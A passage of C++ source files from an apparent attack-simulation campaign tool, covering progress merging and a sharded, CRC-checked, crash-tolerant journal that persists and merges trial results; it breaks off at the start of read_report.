  const std::size_t pos = line.find(probe);
  if (pos == std::string::npos) return false;
  out.clear();
  for (std::size_t i = pos + sizeof(probe) - 1; i < line.size(); ++i) {
    const char c = line[i];
    if (c == '"') return true;
    if (c == '\\' && i + 1 < line.size()) {
      out += line[++i];
      continue;
    }
    out += c;
  }
  return false;  // unterminated string
}

}  // namespace

void ProgressMerger::feed(std::size_t file_id, const char* data,
                          std::size_t len) {
  Stream& s = streams_[file_id];
  s.carry.append(data, len);
  std::size_t start = 0;
  for (;;) {
    const std::size_t nl = s.carry.find('\n', start);
    if (nl == std::string::npos) break;
    fold_line(file_id, s.carry.substr(start, nl - start));
    start = nl + 1;
  }
  s.carry.erase(0, start);
}

void ProgressMerger::fold_line(std::size_t file_id, const std::string& line) {
  if (line.empty()) return;
  lines_++;
  bool recognized = false;

  // Campaign-level facts: single-process streams carry them on every
  // line, the distributed coordinator emits dedicated lines. Either way
  // the newest line wins — the counters are cumulative.
  u64 total = 0;
  if (find_u64(line, "campaign_total", total)) {
    campaign_total_ = total;
    find_u64(line, "campaign_done", campaign_done_);
    find_number(line, "elapsed_s", elapsed_s_);
    find_number(line, "eta_s", eta_s_);
    recognized = true;
  }

  std::string name;
  u64 done = 0;
  if (find_scenario(line, name) && find_u64(line, "done", done)) {
    auto [it, inserted] = index_.try_emplace(name, names_.size());
    if (inserted) {
      names_.push_back(name);
      trials_.push_back(0);
    }
    const std::size_t idx = it->second;
    u64 trials = 0;
    if (find_u64(line, "trials", trials) && trials > trials_[idx]) {
      trials_[idx] = trials;
    }
    Stream& s = streams_[file_id];
    if (s.cells.size() <= idx) s.cells.resize(idx + 1);
    // Counters are cumulative within a stream, so later lines supersede
    // earlier ones.
    s.cells[idx].done = done;
    find_u64(line, "successes", s.cells[idx].successes);
    recognized = true;
  }

  if (!recognized) bad_lines_++;
}

ProgressMerger::Snapshot ProgressMerger::snapshot() const {
  Snapshot snap;
  snap.campaign_done = campaign_done_;
  snap.campaign_total = campaign_total_;
  snap.elapsed_s = elapsed_s_;
  snap.eta_s = eta_s_;
  snap.lines = lines_;
  snap.bad_lines = bad_lines_;
  snap.rows.reserve(names_.size());
  for (std::size_t idx = 0; idx < names_.size(); ++idx) {
    MergedRow row;
    row.name = names_[idx];
    row.trials = trials_[idx];
    for (const auto& [id, stream] : streams_) {
      (void)id;
      if (stream.cells.size() <= idx) continue;
      row.done += stream.cells[idx].done;
      row.successes += stream.cells[idx].successes;
    }
    if (row.done > 0) {
      row.rate =
          static_cast<double>(row.successes) / static_cast<double>(row.done);
      const WilsonInterval ci = wilson_interval(
          static_cast<u32>(row.successes), static_cast<u32>(row.done));
      row.wilson_low = ci.low;
      row.wilson_high = ci.high;
    }
    snap.rows.push_back(std::move(row));
  }
  return snap;
}

}  // namespace dnstime::campaign
