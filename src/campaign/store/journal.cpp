#include "campaign/store/journal.h"

#include <algorithm>
#include <array>
#include <bit>
#include <cstdio>
#include <stdexcept>

namespace dnstime::campaign::store {
namespace {

constexpr std::array<u32, 256> make_crc32_table() {
  std::array<u32, 256> table{};
  for (u32 i = 0; i < 256; ++i) {
    u32 c = i;
    for (int k = 0; k < 8; ++k) {
      c = (c & 1u) ? 0xEDB88320u ^ (c >> 1) : c >> 1;
    }
    table[i] = c;
  }
  return table;
}

constexpr std::array<u32, 256> kCrcTable = make_crc32_table();

}  // namespace

u32 crc32(std::span<const u8> data) {
  u32 c = 0xFFFFFFFFu;
  for (u8 b : data) c = kCrcTable[(c ^ b) & 0xFFu] ^ (c >> 8);
  return c ^ 0xFFFFFFFFu;
}

u64 fnv1a(std::string_view s) {
  u64 h = 0xCBF29CE484222325ull;
  for (unsigned char c : s) {
    h ^= c;
    h *= 0x100000001B3ull;
  }
  return h;
}

u64 fnv1a(std::span<const u8> data) {
  u64 h = 0xCBF29CE484222325ull;
  for (u8 c : data) {
    h ^= c;
    h *= 0x100000001B3ull;
  }
  return h;
}

JournalMeta JournalMeta::describe(u64 campaign_seed, u32 trials_per_scenario,
                                  const std::vector<ScenarioSpec>& specs) {
  JournalMeta meta;
  meta.campaign_seed = campaign_seed;
  meta.trials_per_scenario = trials_per_scenario;
  meta.scenarios.reserve(specs.size());
  for (const ScenarioSpec& spec : specs) {
    meta.scenarios.push_back({spec.name, to_string(spec.attack)});
  }
  return meta;
}

Bytes JournalMeta::encode() const {
  ByteWriter w;
  w.write_u64(campaign_seed);
  w.write_u32(trials_per_scenario);
  w.write_u32(static_cast<u32>(scenarios.size()));
  for (const Scenario& s : scenarios) {
    if (s.name.size() > 0xFFFF || s.attack.size() > 0xFFFF) {
      throw std::length_error("scenario name too long for journal meta");
    }
    w.write_u16(static_cast<u16>(s.name.size()));
    w.write_string(s.name);
    w.write_u16(static_cast<u16>(s.attack.size()));
    w.write_string(s.attack);
  }
  return std::move(w).take();
}

JournalMeta JournalMeta::decode(ByteReader& r) {
  JournalMeta meta;
  meta.campaign_seed = r.read_u64();
  meta.trials_per_scenario = r.read_u32();
  u32 count = r.read_u32();
  if (count > 1'000'000) throw DecodeError("implausible scenario count");
  // Bound reserve() by what the input could actually hold (each scenario
  // needs at least two u16 length fields): a crafted count field must not
  // turn a 16-byte input into a multi-megabyte allocation before the
  // truncation is even noticed.
  if (count > r.remaining() / 4) throw DecodeError("scenario count overruns");
  meta.scenarios.reserve(count);
  for (u32 i = 0; i < count; ++i) {
    Scenario s;
    Bytes name = r.read_bytes(r.read_u16());
    s.name.assign(name.begin(), name.end());
    Bytes attack = r.read_bytes(r.read_u16());
    s.attack.assign(attack.begin(), attack.end());
    meta.scenarios.push_back(std::move(s));
  }
  return meta;
}

u64 JournalMeta::fingerprint() const { return fnv1a(encode()); }

std::vector<u64> JournalMeta::name_hashes() const {
  std::vector<u64> hashes;
  hashes.reserve(scenarios.size());
  for (const Scenario& s : scenarios) hashes.push_back(fnv1a(s.name));
  return hashes;
}

std::string shard_filename(u32 shard_id) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%s%05u%s", std::string(kShardPrefix).c_str(),
                shard_id, std::string(kShardSuffix).c_str());
  return buf;
}

void encode_record(ByteWriter& w, u64 name_hash, const TrialResult& r) {
  const std::size_t start = w.size();
  w.write_u64(name_hash);
  w.write_u32(r.trial);
  w.write_u64(r.seed);
  w.write_u8(r.success ? 1 : 0);
  // Raw IEEE-754 bits: NaN/inf payloads round-trip exactly, which the
  // byte-identity contract between journal and in-memory reports needs.
  w.write_u64(std::bit_cast<u64>(r.duration_s));
  w.write_u64(std::bit_cast<u64>(r.clock_shift_s));
  w.write_u64(std::bit_cast<u64>(r.metric));
  w.write_u64(r.fragments_planted);
  w.write_u64(r.replant_rounds);
  // Clip pathological error text so the frame always fits the
  // kMaxRecordBytes bound every reader enforces: an over-long record
  // would otherwise be written fine but rejected as corrupt on read,
  // wedging the shard (and resume) behind it forever.
  const std::size_t error_len = std::min<std::size_t>(r.error.size(),
                                                      kMaxErrorBytes);
  w.write_u32(static_cast<u32>(error_len));
  w.write_string(error_len == r.error.size() ? r.error
                                             : r.error.substr(0, error_len));
  if (w.size() - start != kFixedRecordBytes + error_len) {
    throw std::logic_error("journal record layout drifted from "
                           "kFixedRecordBytes");
  }
}

DecodedRecord decode_record(ByteReader& r) {
  DecodedRecord d;
  d.name_hash = r.read_u64();
  d.result.trial = r.read_u32();
  d.result.seed = r.read_u64();
  d.result.success = r.read_u8() != 0;
  d.result.duration_s = std::bit_cast<double>(r.read_u64());
  d.result.clock_shift_s = std::bit_cast<double>(r.read_u64());
  d.result.metric = std::bit_cast<double>(r.read_u64());
  d.result.fragments_planted = r.read_u64();
  d.result.replant_rounds = r.read_u64();
  Bytes error = r.read_bytes(r.read_u32());
  d.result.error.assign(error.begin(), error.end());
  return d;
}

}  // namespace dnstime::campaign::store
