// On-disk format of the sharded trial journal: append-only, crash-tolerant
// campaign persistence.
//
// A journal is a directory of shard files ("shard-00000.dtj", ...), one per
// writer. Every worker thread streams its finished TrialResults into its own
// shard, so the write path has no cross-thread contention; a reader merges
// the shards back into trial-index order (campaign/store/journal_reader.h).
//
// Shard file layout (all integers big-endian, like the repo's wire codecs):
//
//   [u64 magic "DTJRNL1\0"][u32 version][u32 shard_id]
//   [u32 meta_len][u32 meta_crc32][meta bytes]        <- campaign identity
//   ([u32 rec_len][u32 rec_crc32][record bytes])*     <- one frame per trial
//
// The meta block (JournalMeta) pins the campaign seed, trials-per-scenario
// and the ordered scenario table; every shard of one journal carries an
// identical copy, which is how resume refuses to mix campaigns. Records are
// keyed by (scenario-name FNV-1a hash, trial index, seed) and carry the full
// TrialResult with doubles as raw IEEE-754 bits, so non-finite values
// round-trip exactly. Frames are flushed to the kernel per append, so a
// process killed mid-write leaves at most one torn frame at the end of
// each shard; readers stop at the last valid frame and resume truncates
// the tail, so a crash can never corrupt completed trials. (No fsync: an
// OS/power failure may additionally lose fully-written frames, which
// resume re-executes deterministically.)
#pragma once

#include <cstdio>
#include <memory>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "campaign/scenario_spec.h"
#include "common/bytes.h"

namespace dnstime::campaign::store {

/// RAII ownership of a C stdio stream, shared by the shard writer and the
/// journal readers (closes silently; paths that must observe the close
/// result release() and fclose themselves).
struct FcloseDeleter {
  void operator()(std::FILE* f) const { std::fclose(f); }
};
using FilePtr = std::unique_ptr<std::FILE, FcloseDeleter>;

inline constexpr u64 kMagic = 0x44544A524E4C3100ull;  // "DTJRNL1\0"
inline constexpr u32 kVersion = 1;
inline constexpr std::string_view kShardPrefix = "shard-";
inline constexpr std::string_view kShardSuffix = ".dtj";
/// Sanity bound on one framed record: a TrialResult's only variable-length
/// part is the error string, so a larger length field is garbage, not data.
/// The writer enforces this too — error strings are clipped to
/// kMaxErrorBytes before framing — so no shard ever holds a record its
/// readers would reject as corrupt.
inline constexpr u32 kMaxRecordBytes = 1u << 20;
/// Fixed-width part of an encoded record (everything but the error text).
inline constexpr u32 kFixedRecordBytes = 65;
/// Longest error string a journaled TrialResult retains; anything longer
/// is truncated at append time (the in-memory path keeps the full text).
inline constexpr u32 kMaxErrorBytes = kMaxRecordBytes - kFixedRecordBytes;

/// IEEE CRC-32 (reflected, poly 0xEDB88320) over a byte span.
[[nodiscard]] u32 crc32(std::span<const u8> data);

/// FNV-1a. The scenario-name hash that keys journal records is the same
/// hash CampaignRunner::trial_seed mixes into per-trial seeds.
[[nodiscard]] u64 fnv1a(std::string_view s);
[[nodiscard]] u64 fnv1a(std::span<const u8> data);

/// Campaign identity stored in every shard header. Two shards belong to the
/// same journal iff their encoded metas are byte-identical.
struct JournalMeta {
  struct Scenario {
    std::string name;
    std::string attack;  ///< to_string(AttackKind), for report rebuilding
  };

  u64 campaign_seed = 0;
  u32 trials_per_scenario = 0;
  std::vector<Scenario> scenarios;  ///< campaign registration order

  [[nodiscard]] static JournalMeta describe(
      u64 campaign_seed, u32 trials_per_scenario,
      const std::vector<ScenarioSpec>& specs);

  [[nodiscard]] Bytes encode() const;
  /// Throws DecodeError on malformed input.
  [[nodiscard]] static JournalMeta decode(ByteReader& r);
  /// FNV-1a over encode(): one u64 that pins seed + trials + scenario set.
  [[nodiscard]] u64 fingerprint() const;
  /// fnv1a(name) per scenario, in order (record key precomputation).
  [[nodiscard]] std::vector<u64> name_hashes() const;
};

/// One merged journal entry: a TrialResult resolved back to its scenario's
/// index in JournalMeta::scenarios.
struct JournalRecord {
  u32 scenario = 0;
  TrialResult result;
};

[[nodiscard]] std::string shard_filename(u32 shard_id);

// --- record codec (shared by ShardWriter, JournalReader and tests) ---------

void encode_record(ByteWriter& w, u64 name_hash, const TrialResult& r);

struct DecodedRecord {
  u64 name_hash = 0;
  TrialResult result;
};
/// Throws DecodeError on malformed input; the reader treats that exactly
/// like a CRC mismatch (end of the shard's valid prefix).
[[nodiscard]] DecodedRecord decode_record(ByteReader& r);

}  // namespace dnstime::campaign::store
