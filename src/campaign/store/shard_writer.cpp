#include "campaign/store/shard_writer.h"

#include <cerrno>
#include <cstring>
#include <stdexcept>

#include "obs/counters.h"

namespace dnstime::campaign::store {
namespace {

[[noreturn]] void throw_io(const std::string& what, const std::string& path) {
  throw std::runtime_error(what + " '" + path + "': " + std::strerror(errno));
}

}  // namespace

ShardWriter::ShardWriter(const std::string& dir, const JournalMeta& meta,
                         u32 shard_id)
    : path_(dir + "/" + shard_filename(shard_id)),
      hashes_(meta.name_hashes()) {
  ByteWriter h;
  h.write_u64(kMagic);
  h.write_u32(kVersion);
  h.write_u32(shard_id);
  Bytes meta_bytes = meta.encode();
  if (meta_bytes.size() > kMaxRecordBytes) {
    // Fail before any trial runs: readers reject oversized meta blocks as
    // corrupt, so writing one would produce an unreadable journal.
    throw std::invalid_argument(
        "campaign scenario table too large to journal (" +
        std::to_string(meta_bytes.size()) + " bytes encoded)");
  }
  h.write_u32(static_cast<u32>(meta_bytes.size()));
  h.write_u32(crc32(meta_bytes));
  h.write_bytes(meta_bytes);
  header_ = std::move(h).take();
}

void ShardWriter::open_and_write_header() {
  // "x": exclusive create. Shard ids are allocated fresh per run, so the
  // only way this file exists is another process journaling into the same
  // directory — fail fast instead of silently truncating its shard (the
  // runner's dirty-directory check is scan-then-create and cannot catch
  // two campaigns racing on an initially empty directory).
  file_.reset(std::fopen(path_.c_str(), "wbx"));
  if (file_ == nullptr) throw_io("cannot create journal shard", path_);
  if (std::fwrite(header_.data(), 1, header_.size(), file_.get()) !=
      header_.size()) {
    throw_io("cannot write journal shard header", path_);
  }
  bytes_written_ += header_.size();
}

void ShardWriter::append(u32 scenario_index, const TrialResult& r) {
  if (scenario_index >= hashes_.size()) {
    throw std::runtime_error("journal append: scenario index out of range");
  }
  if (file_ == nullptr) open_and_write_header();
  ByteWriter payload;
  encode_record(payload, hashes_[scenario_index], r);
  ByteWriter frame;
  frame.write_u32(static_cast<u32>(payload.size()));
  frame.write_u32(crc32(payload.data()));
  frame.write_bytes(payload.data());
  std::span<const u8> bytes = frame.data();
  if (std::fwrite(bytes.data(), 1, bytes.size(), file_.get()) !=
      bytes.size()) {
    throw_io("cannot append to journal shard", path_);
  }
  // Flush each frame to the kernel: "stored" (as the progress contract and
  // resume promise) must mean a SIGKILL now costs at most the frame being
  // written, not a stdio buffer of completed trials. The flush is noise
  // next to executing a trial.
  if (std::fflush(file_.get()) != 0) {
    throw_io("cannot flush journal shard", path_);
  }
  records_++;
  bytes_written_ += bytes.size();
}

void ShardWriter::close() {
  if (file_ == nullptr) return;
  if (std::fclose(file_.release()) != 0) {
    throw_io("cannot close journal shard", path_);
  }
  DNSTIME_COUNT_ADD("campaign.journal_bytes_written", bytes_written_);
  DNSTIME_COUNT_ADD("campaign.journal_records_written", records_);
}

}  // namespace dnstime::campaign::store
