// Append-only writer for one journal shard. Each campaign worker thread
// owns exactly one ShardWriter, so the journal write path never takes a
// lock: a finished TrialResult is framed (length + CRC32) and appended to
// the worker's private file.
#pragma once

#include <string>
#include <vector>

#include "campaign/store/journal.h"

namespace dnstime::campaign::store {

class ShardWriter {
 public:
  /// `dir` must exist. The shard file is created lazily on the first
  /// append — an idle worker leaves no empty shard behind — and starts
  /// with the header + meta block described in journal.h.
  ShardWriter(const std::string& dir, const JournalMeta& meta, u32 shard_id);

  /// Appends one framed record for `meta.scenarios[scenario_index]` and
  /// flushes it to the kernel, so a killed process loses at most the
  /// frame being written. Throws std::runtime_error on I/O failure.
  void append(u32 scenario_index, const TrialResult& r);

  /// Closes the file (no-op if nothing was appended). Throws
  /// std::runtime_error if the close fails; the destructor closes silently.
  void close();

  [[nodiscard]] const std::string& path() const { return path_; }
  [[nodiscard]] u64 records() const { return records_; }
  /// Bytes appended to the shard file so far (header + frames).
  [[nodiscard]] u64 bytes_written() const { return bytes_written_; }

 private:
  void open_and_write_header();

  std::string path_;
  Bytes header_;             ///< magic + version + shard id + framed meta
  std::vector<u64> hashes_;  ///< fnv1a(scenario name), by scenario index
  FilePtr file_;             ///< move-only ownership, closed on destroy
  u64 records_ = 0;
  u64 bytes_written_ = 0;
};

}  // namespace dnstime::campaign::store
