// Reading side of the sharded trial journal: directory scans for resume,
// torn-tail truncation, a streaming k-way merge back into trial-index
// order, and full CampaignReport reconstruction.
//
// Tolerance contract: a shard's valid prefix ends at the first frame that
// is short, oversized, CRC-mismatched or undecodable — everything after a
// crash's torn final write is treated as never journaled and simply re-run
// on resume. A shard whose header itself is torn contributes nothing (and
// is deleted by truncate_torn_tails). Two conditions are hard errors, not
// tolerance cases: a shard whose header decodes to a *different* campaign
// (seed, trials or scenario set — resuming must never silently mix
// campaigns), and a shard file that exists but cannot be opened (its
// contents are unknown, so skipping it would fabricate an incomplete
// campaign or let resume destroy and re-run safe trials).
#pragma once

#include <queue>
#include <string>
#include <unordered_map>
#include <utility>
#include <vector>

#include "campaign/report.h"
#include "campaign/store/journal.h"

namespace dnstime::campaign::store {

struct ShardState {
  std::string path;
  u32 shard_id = 0;      ///< parsed from the filename
  bool header_ok = false;
  u64 valid_bytes = 0;   ///< header + every valid frame
  u64 file_bytes = 0;    ///< actual size; > valid_bytes means a torn tail
  u64 records = 0;
};

struct JournalScan {
  bool found = false;  ///< at least one shard with a valid header
  JournalMeta meta;    ///< identity shared by all shards (when found)
  std::vector<ShardState> shards;  ///< sorted by filename
  /// done[scenario][trial] != 0 iff a valid record exists for that pair.
  std::vector<std::vector<u8>> done;
  u64 records = 0;  ///< distinct (scenario, trial) pairs journaled
};

/// Shard files under `dir`, sorted by name ([] if the directory is absent).
[[nodiscard]] std::vector<std::string> list_shards(const std::string& dir);

/// Half-open range of flattened trial indices
/// (scenario_index * trials + trial_index).
struct TrialRange {
  u64 begin = 0;
  u64 end = 0;  ///< exclusive
  [[nodiscard]] u64 size() const { return end - begin; }
  bool operator==(const TrialRange&) const = default;
};

/// The maximal runs of flattened indices NOT yet journaled, ascending —
/// the distributed coordinator's initial work pool, and what resuming
/// after a coordinator crash re-leases. `num_scenarios`/`trials` describe
/// the campaign being (re)run; scan.done is consulted when the scan found
/// shards (a fresh directory yields one range covering everything).
[[nodiscard]] std::vector<TrialRange> pending_ranges(const JournalScan& scan,
                                                     std::size_t num_scenarios,
                                                     u32 trials);

/// Walks every shard's valid prefix and marks journaled trials. Throws
/// std::runtime_error if shards disagree on the campaign identity.
[[nodiscard]] JournalScan scan_journal(const std::string& dir);

/// Makes the scanned journal physically clean: shards with torn tails are
/// truncated to their last valid frame, header-less shards are removed.
/// Called by the runner before resuming (readers tolerate torn tails
/// anyway; truncation keeps crash debris from accumulating).
void truncate_torn_tails(const JournalScan& scan);

/// Streaming merge of all shards into global trial order (scenario index,
/// then trial index). Holds O(shards) records in memory. Duplicate
/// (scenario, trial) keys — e.g. from an interrupted resume — yield the
/// copy from the lexicographically first shard. Within one shard, keys
/// must be strictly ascending (the order every writer produces); a
/// violation throws std::runtime_error.
class JournalMerge {
 public:
  explicit JournalMerge(const std::string& dir);
  ~JournalMerge();
  JournalMerge(const JournalMerge&) = delete;
  JournalMerge& operator=(const JournalMerge&) = delete;

  /// False if no shard had a valid header (meta() is then meaningless).
  [[nodiscard]] bool valid() const { return valid_; }
  [[nodiscard]] const JournalMeta& meta() const { return meta_; }

  /// Fills `out` with the next record in global trial order; false at end.
  bool next(JournalRecord& out);

 private:
  struct Cursor;
  std::vector<Cursor> cursors_;
  /// Min-heap of (current key, cursor index): next() is O(log shards) per
  /// record. Ties order by cursor index, i.e. lexicographically first
  /// shard wins — the deterministic duplicate-collapse rule.
  std::priority_queue<std::pair<u64, std::size_t>,
                      std::vector<std::pair<u64, std::size_t>>,
                      std::greater<>>
      heap_;
  JournalMeta meta_;
  std::unordered_map<u64, u32> index_of_hash_;
  bool valid_ = false;
  u32 trials_ = 0;
};

/// Rebuilds the CampaignReport from a journal via the same streaming
/// ScenarioAggregateBuilder fold the runner uses, so a report read back
/// from shards is byte-identical to the in-memory one. With
/// `include_trials` the per-trial results are materialised too (O(total
/// trials) memory — this is the post-hoc analysis path, not the runner's).
/// Throws std::runtime_error if `dir` holds no valid journal.
[[nodiscard]] CampaignReport read_report(const std::string& dir,
                                         bool include_trials = true);

}  // namespace dnstime::campaign::store
