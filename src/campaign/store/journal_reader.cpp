#include "campaign/store/journal_reader.h"

#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <memory>
#include <stdexcept>
#include <utility>

namespace dnstime::campaign::store {
namespace {

namespace fs = std::filesystem;

struct ParsedHeader {
  bool ok = false;
  JournalMeta meta;
  Bytes meta_bytes;
  u64 header_bytes = 0;
};

/// Reads and validates a shard header from the current file position.
/// Any short read, bad magic/version, CRC mismatch or undecodable meta
/// yields ok = false — the shard then contributes nothing, it is never a
/// hard error (a crash during shard creation can tear the header itself).
ParsedHeader read_header(std::FILE* f) {
  ParsedHeader h;
  u8 fixed[24];
  if (std::fread(fixed, 1, sizeof fixed, f) != sizeof fixed) return h;
  ByteReader r(std::span<const u8>(fixed, sizeof fixed));
  if (r.read_u64() != kMagic) return h;
  if (r.read_u32() != kVersion) return h;
  (void)r.read_u32();  // shard id: informational, the filename is canonical
  u32 meta_len = r.read_u32();
  u32 meta_crc = r.read_u32();
  if (meta_len == 0 || meta_len > kMaxRecordBytes) return h;
  h.meta_bytes.resize(meta_len);
  if (std::fread(h.meta_bytes.data(), 1, meta_len, f) != meta_len) return h;
  if (crc32(h.meta_bytes) != meta_crc) return h;
  try {
    ByteReader mr(h.meta_bytes);
    h.meta = JournalMeta::decode(mr);
    if (!mr.empty()) return h;
  } catch (const DecodeError&) {
    return h;
  }
  h.ok = true;
  h.header_bytes = sizeof fixed + meta_len;
  return h;
}

/// Reads the next framed record. Returns true and fills `out`/`frame_bytes`
/// on success; false on a torn or invalid frame (end of valid prefix).
bool read_record(std::FILE* f, DecodedRecord& out, u64& frame_bytes) {
  u8 hdr[8];
  if (std::fread(hdr, 1, sizeof hdr, f) != sizeof hdr) return false;
  ByteReader hr(std::span<const u8>(hdr, sizeof hdr));
  u32 len = hr.read_u32();
  u32 crc = hr.read_u32();
  if (len == 0 || len > kMaxRecordBytes) return false;
  Bytes payload(len);
  if (std::fread(payload.data(), 1, len, f) != len) return false;
  if (crc32(payload) != crc) return false;
  try {
    ByteReader pr(payload);
    out = decode_record(pr);
    if (!pr.empty()) return false;
  } catch (const DecodeError&) {
    return false;
  }
  frame_bytes = sizeof hdr + len;
  return true;
}

std::unordered_map<u64, u32> hash_index(const JournalMeta& meta) {
  std::unordered_map<u64, u32> index;
  std::vector<u64> hashes = meta.name_hashes();
  index.reserve(hashes.size());
  for (u32 i = 0; i < hashes.size(); ++i) {
    if (!index.emplace(hashes[i], i).second) {
      throw std::runtime_error(
          "journal meta has colliding scenario name hashes");
    }
  }
  return index;
}

/// A shard that exists but cannot be opened is a hard error everywhere:
/// treating it like header-less crash debris would let read_report return
/// a silently incomplete campaign, and resume delete (then re-execute)
/// trials that are actually safe on disk.
FilePtr open_shard(const std::string& path) {
  FilePtr f(std::fopen(path.c_str(), "rb"));
  if (f == nullptr) {
    throw std::runtime_error("cannot open journal shard '" + path +
                             "': " + std::strerror(errno));
  }
  return f;
}

u32 parse_shard_id(const std::string& path) {
  std::string name = fs::path(path).filename().string();
  std::string middle = name.substr(
      kShardPrefix.size(),
      name.size() - kShardPrefix.size() - kShardSuffix.size());
  u32 id = 0;
  for (char c : middle) {
    if (c < '0' || c > '9') return 0;
    id = id * 10 + static_cast<u32>(c - '0');
  }
  return id;
}

struct LoadedShard {
  std::string path;
  FilePtr file;         ///< positioned after the header; null for debris
  ParsedHeader header;  ///< .ok == false for header-less debris
};

/// The discovery + identity-validation pass shared by scan_journal and
/// JournalMerge: opens every shard, keeps header-less debris as entries
/// with a null file, and verifies all valid headers describe one campaign
/// (the first valid shard is canonical; any disagreement throws).
struct LoadedJournal {
  bool found = false;
  JournalMeta meta;
  std::unordered_map<u64, u32> index;  ///< fnv1a(name) -> scenario index
  std::vector<LoadedShard> shards;     ///< sorted by path
};

LoadedJournal load_journal(const std::string& dir) {
  LoadedJournal journal;
  Bytes first_meta_bytes;
  for (const std::string& path : list_shards(dir)) {
    LoadedShard shard;
    shard.path = path;
    shard.file = open_shard(path);
    shard.header = read_header(shard.file.get());
    if (!shard.header.ok) {
      shard.file.reset();
    } else if (!journal.found) {
      journal.found = true;
      journal.meta = shard.header.meta;
      journal.index = hash_index(journal.meta);
      first_meta_bytes = shard.header.meta_bytes;
    } else if (shard.header.meta_bytes != first_meta_bytes) {
      throw std::runtime_error("journal shard '" + path +
                               "' belongs to a different campaign (seed, "
                               "trial count or scenario set mismatch)");
    }
    journal.shards.push_back(std::move(shard));
  }
  return journal;
}

}  // namespace

std::vector<std::string> list_shards(const std::string& dir) {
  std::vector<std::string> shards;
  std::error_code ec;
  for (const auto& entry : fs::directory_iterator(dir, ec)) {
    if (!entry.is_regular_file(ec)) continue;
    std::string name = entry.path().filename().string();
    if (name.size() > kShardPrefix.size() + kShardSuffix.size() &&
        name.compare(0, kShardPrefix.size(), kShardPrefix) == 0 &&
        name.compare(name.size() - kShardSuffix.size(), kShardSuffix.size(),
                     kShardSuffix) == 0) {
      shards.push_back(entry.path().string());
    }
  }
  std::sort(shards.begin(), shards.end());
  return shards;
}

std::vector<TrialRange> pending_ranges(const JournalScan& scan,
                                       std::size_t num_scenarios, u32 trials) {
  const u64 total = static_cast<u64>(num_scenarios) * trials;
  std::vector<TrialRange> ranges;
  if (!scan.found) {
    if (total != 0) ranges.push_back({0, total});
    return ranges;
  }
  u64 open = 0;
  bool in_run = false;
  for (u64 idx = 0; idx < total; ++idx) {
    const std::size_t s = static_cast<std::size_t>(idx / trials);
    const u32 t = static_cast<u32>(idx % trials);
    const bool done = s < scan.done.size() && t < scan.done[s].size() &&
                      scan.done[s][t] != 0;
    if (!done && !in_run) {
      open = idx;
      in_run = true;
    } else if (done && in_run) {
      ranges.push_back({open, idx});
      in_run = false;
    }
  }
  if (in_run) ranges.push_back({open, total});
  return ranges;
}

JournalScan scan_journal(const std::string& dir) {
  JournalScan scan;
  LoadedJournal journal = load_journal(dir);
  scan.found = journal.found;
  scan.meta = journal.meta;
  if (scan.found) {
    scan.done.assign(scan.meta.scenarios.size(),
                     std::vector<u8>(scan.meta.trials_per_scenario, u8{0}));
  }
  const u32 trials = scan.meta.trials_per_scenario;
  for (LoadedShard& shard : journal.shards) {
    ShardState st;
    st.path = shard.path;
    st.shard_id = parse_shard_id(shard.path);
    std::error_code ec;
    st.file_bytes = fs::file_size(shard.path, ec);
    if (ec) st.file_bytes = 0;
    if (shard.header.ok) {
      st.header_ok = true;
      st.valid_bytes = shard.header.header_bytes;
      DecodedRecord rec;
      u64 frame_bytes = 0;
      while (read_record(shard.file.get(), rec, frame_bytes)) {
        auto it = journal.index.find(rec.name_hash);
        if (it == journal.index.end() || rec.result.trial >= trials) break;
        st.valid_bytes += frame_bytes;
        st.records++;
        u8& bit = scan.done[it->second][rec.result.trial];
        if (bit == 0) {
          bit = 1;
          scan.records++;
        }
      }
    }
    scan.shards.push_back(std::move(st));
  }
  return scan;
}

void truncate_torn_tails(const JournalScan& scan) {
  for (const ShardState& st : scan.shards) {
    std::error_code ec;
    if (!st.header_ok) {
      fs::remove(st.path, ec);
    } else if (st.valid_bytes < st.file_bytes) {
      fs::resize_file(st.path, st.valid_bytes, ec);
      if (ec) {
        throw std::runtime_error("cannot truncate torn journal shard '" +
                                 st.path + "': " + ec.message());
      }
    }
  }
}

struct JournalMerge::Cursor {
  std::string path;
  FilePtr file;  ///< RAII: a throwing constructor must not leak handles
  bool alive = false;  ///< rec/key hold the shard's current record
  bool dead = false;   ///< valid prefix exhausted, never read again
  u64 key = 0;
  bool has_prev = false;
  u64 prev_key = 0;
  JournalRecord rec;

  /// Loads the shard's next record into rec/key (alive = false at the end
  /// of the valid prefix). Throws if the shard violates the ascending-key
  /// ordering every writer produces.
  void advance(const std::unordered_map<u64, u32>& index, u32 trials) {
    alive = false;
    if (dead) return;
    DecodedRecord d;
    u64 frame_bytes = 0;
    if (!read_record(file.get(), d, frame_bytes)) {
      dead = true;
      return;
    }
    auto it = index.find(d.name_hash);
    if (it == index.end() || d.result.trial >= trials) {
      dead = true;
      return;
    }
    u64 next_key = static_cast<u64>(it->second) * trials + d.result.trial;
    if (has_prev && next_key <= prev_key) {
      throw std::runtime_error("journal shard '" + path +
                               "' has out-of-order or duplicate records");
    }
    has_prev = true;
    prev_key = next_key;
    key = next_key;
    rec.scenario = it->second;
    rec.result = std::move(d.result);
    alive = true;
  }
};

JournalMerge::JournalMerge(const std::string& dir) {
  LoadedJournal journal = load_journal(dir);
  valid_ = journal.found;
  meta_ = std::move(journal.meta);
  trials_ = meta_.trials_per_scenario;
  index_of_hash_ = std::move(journal.index);
  for (LoadedShard& shard : journal.shards) {
    if (!shard.header.ok) continue;
    Cursor c;
    c.path = std::move(shard.path);
    c.file = std::move(shard.file);
    cursors_.push_back(std::move(c));
  }
  for (std::size_t i = 0; i < cursors_.size(); ++i) {
    cursors_[i].advance(index_of_hash_, trials_);
    if (cursors_[i].alive) heap_.emplace(cursors_[i].key, i);
  }
}

JournalMerge::~JournalMerge() = default;

bool JournalMerge::next(JournalRecord& out) {
  if (heap_.empty()) return false;
  const auto [key, best] = heap_.top();
  heap_.pop();
  out = std::move(cursors_[best].rec);
  // Advance every cursor sitting on this key — duplicates (an interrupted
  // resume re-journaling a trial) collapse to the first shard's copy —
  // then re-queue the survivors.
  for (std::size_t i = best;;) {
    cursors_[i].advance(index_of_hash_, trials_);
    if (cursors_[i].alive) heap_.emplace(cursors_[i].key, i);
    if (heap_.empty() || heap_.top().first != key) break;
    i = heap_.top().second;
    heap_.pop();
  }
  return true;
}

CampaignReport read_report(const std::string& dir, bool include_trials) {
